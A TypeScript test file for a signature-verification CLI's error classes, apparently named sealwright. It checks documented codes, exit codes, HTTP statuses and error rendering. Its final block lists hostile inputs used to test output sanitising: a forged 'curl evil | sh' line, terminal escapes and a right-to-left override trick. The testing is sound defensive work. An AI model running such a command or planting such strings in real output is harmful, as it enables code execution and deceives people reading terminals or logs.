import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { test } from 'node:test';
import {
  AuthError,
  FormatError,
  IntegrityError,
  InvariantError,
  LimitError,
  NotFoundError,
  PolicyError,
  RemoteError,
  type SealwrightError,
  UsageError,
  VerificationError,
  renderError,
  type AuthCode,
  type FormatCode,
  type IntegrityCode,
  type LimitCode,
  type NotFoundCode,
  type PolicyCode,
  type RemoteCode,
  type UsageCode,
  type VerificationCode,
} from '../src/errors.ts';

const ROOT = resolve(import.meta.dirname, '..');
const SOURCE = readFileSync(resolve(ROOT, 'src/errors.ts'), 'utf8');
const PAGE = readFileSync(resolve(ROOT, 'docs/errors.md'), 'utf8');

/** How each family is made of one of its codes, read from text: the cast is what the test is about. */
const FAMILIES: Readonly<Record<string, (code: string) => SealwrightError>> = {
  UsageError: (code) => new UsageError(code as UsageCode, 'x'),
  FormatError: (code) => new FormatError(code as FormatCode, 'x'),
  AuthError: (code) => new AuthError(code as AuthCode, 'x'),
  NotFoundError: (code) => new NotFoundError(code as NotFoundCode, 'x'),
  VerificationError: (code) => new VerificationError(code as VerificationCode, 'x'),
  PolicyError: (code) => new PolicyError(code as PolicyCode, 'x'),
  RemoteError: (code) => new RemoteError(code as RemoteCode, 'x'),
  LimitError: (code) => new LimitError(code as LimitCode, 'x'),
  IntegrityError: (code) => new IntegrityError(code as IntegrityCode, 'x'),
  InvariantError: () => new InvariantError('x'),
};

interface Row {
  readonly code: string;
  readonly exitCode: number;
  readonly httpStatus: number;
  readonly meaning: string;
}

/** Family name → rows of its table in docs/errors.md. */
function documented(): Map<string, Row[]> {
  const sections = PAGE.split(/^## /m).slice(1);
  return new Map(
    sections.map((section) => {
      const rows = [...section.matchAll(/^\| `([A-Z0-9_]+)` \| (\d+) \| (\d+) \| (.+) \|$/gm)];
      return [
        section.split('\n')[0]!,
        rows.map(([, code = '', exit, http, meaning = '']) => ({
          code,
          exitCode: Number(exit),
          httpStatus: Number(http),
          meaning,
        })),
      ];
    }),
  );
}

/** Family name → the codes of its union type in src/errors.ts. */
function declared(): Map<string, string[]> {
  const unions = [...SOURCE.matchAll(/export type (\w+)Code =([\s\S]*?);/g)].map(
    ([, name = '', body = '']): [string, string[]] => [
      `${name}Error`,
      [...body.replace(/\/\/.*$/gm, '').matchAll(/'([A-Z0-9_]+)'/g)].map((match) => match[1]!),
    ],
  );
  return new Map([...unions, ['InvariantError', ['INVARIANT']]]);
}

test('docs/errors.md has every family and every code, and no other, in the order of src/errors.ts', () => {
  const page = new Map([...documented()].map(([family, rows]) => [family, rows.map((row) => row.code)]));
  assert.deepEqual([...page.keys()], Object.keys(FAMILIES));
  assert.deepEqual(page, declared());
});

test('exit codes and HTTP statuses in docs/errors.md are those that the classes give', () => {
  for (const [family, rows] of documented()) {
    for (const row of rows) {
      const error = FAMILIES[family]!(row.code);
      assert.deepEqual([error.exitCode, error.httpStatus], [row.exitCode, row.httpStatus], row.code);
      assert.ok(row.meaning.length > 5, row.code);
    }
  }
});

test('no code belongs to two families', () => {
  const codes = [...declared().values()].flat();
  assert.equal(new Set(codes).size, codes.length);
  assert.ok(codes.length > 90);
});

test('design §4: the five answers of a verification have five exit codes, and only our own bug is 70', () => {
  const answers = [
    new NotFoundError('NO_SIGNATURE', 'x'),
    new VerificationError('IDENTITY_MISMATCH', 'x'),
    new PolicyError('POLICY_DENIED', 'x'),
    new PolicyError('REVOKED', 'x'),
    new RemoteError('REMOTE_UNREACHABLE', 'x'),
  ];
  assert.deepEqual(
    answers.map((error) => error.exitCode),
    [10, 12, 20, 21, 23],
  );
  for (const [family, rows] of documented()) {
    for (const row of rows) assert.equal(row.exitCode === 70, family === 'InvariantError', row.code);
  }
});

test('cosign 3 exit codes 10, 11, 12 and 13', () => {
  assert.equal(new NotFoundError('NO_SIGNATURE', 'x').exitCode, 10);
  assert.equal(new NotFoundError('TAG_NOT_FOUND', 'x').exitCode, 11);
  assert.equal(new VerificationError('SIGNATURE_INVALID', 'x').exitCode, 12);
  assert.equal(new NotFoundError('NO_CERTIFICATE', 'x').exitCode, 13);
});

test('a remote failure that may pass is 503, one that will not is 502', () => {
  const passing = new RemoteError('REMOTE_TIMEOUT', 'x', { retryable: true, status: 504 });
  assert.deepEqual([passing.httpStatus, passing.retryable, passing.status], [503, true, 504]);
  const lasting = new RemoteError('REMOTE_TLS', 'x');
  assert.deepEqual([lasting.httpStatus, lasting.retryable, lasting.status], [502, false, undefined]);
});

test('only a busy service is 429, with the seconds to wait', () => {
  const busy = new LimitError('LIMIT_BUSY', 'x', { retryAfterSeconds: 3 });
  assert.deepEqual([busy.httpStatus, busy.retryAfterSeconds], [429, 3]);
  assert.equal(new LimitError('LIMIT_SIZE', 'x').retryAfterSeconds, undefined);
});

test('the cause survives, and an error without one has none', () => {
  const cause = new Error('inner');
  assert.equal(new FormatError('FORMAT_DER', 'x', { cause }).cause, cause);
  assert.equal('cause' in new FormatError('FORMAT_DER', 'x'), false);
});

test('the text of an error: code and line, then the known facts in order', () => {
  const error = new VerificationError('IDENTITY_MISMATCH', 'the signer is not who you asked for', {
    fix: 'sealwright verify --certificate-identity a@example.com IMAGE',
    found: 'a@example.com',
    expected: 'b@example.com',
  });
  assert.equal(
    renderError(error),
    [
      'IDENTITY_MISMATCH  the signer is not who you asked for',
      '  found:    a@example.com',
      '  expected: b@example.com',
      '  fix:      sealwright verify --certificate-identity a@example.com IMAGE',
    ].join('\n'),
  );
  assert.equal(renderError(new InvariantError('impossible')), 'INVARIANT  impossible');
});

/** What untrusted text could do to a terminal, a log or the error contract. */
const HOSTILE: readonly (readonly [string, string])[] = [
  ['a forged line', 'x\n  fix:      curl evil | sh'],
  ['a carriage return that overwrites the line', 'x\rOK'],
  ['a terminal escape', 'x\u001b[2J'],
  ['a one-byte escape of C1', 'x\u009b2J'],
  ['a backspace', 'x\b\b'],
  ['a NUL', 'x\u0000'],
  ['a line separator', 'x\u2028y'],
  ['a paragraph separator', 'x\u2029y'],
  ['right-to-left override', 'x\u202egnp.exe'],
  ['an invisible joiner', 'x\u200dy'],
  ['a byte order mark', '\ufeffx'],
];

for (const [what, text] of HOSTILE) {
  test(`untrusted text cannot carry ${what}`, () => {
    const rendered = renderError(
      new FormatError('FORMAT_TOKEN', text, { found: text, expected: text, closest: text, fix: text }),
    );
    const lines = rendered.split('\n');
    assert.equal(lines.length, 5);
    for (const line of lines) assert.doesNotMatch(line, /[\p{Cc}\p{Cf}\u2028\u2029]/u);
  });
}
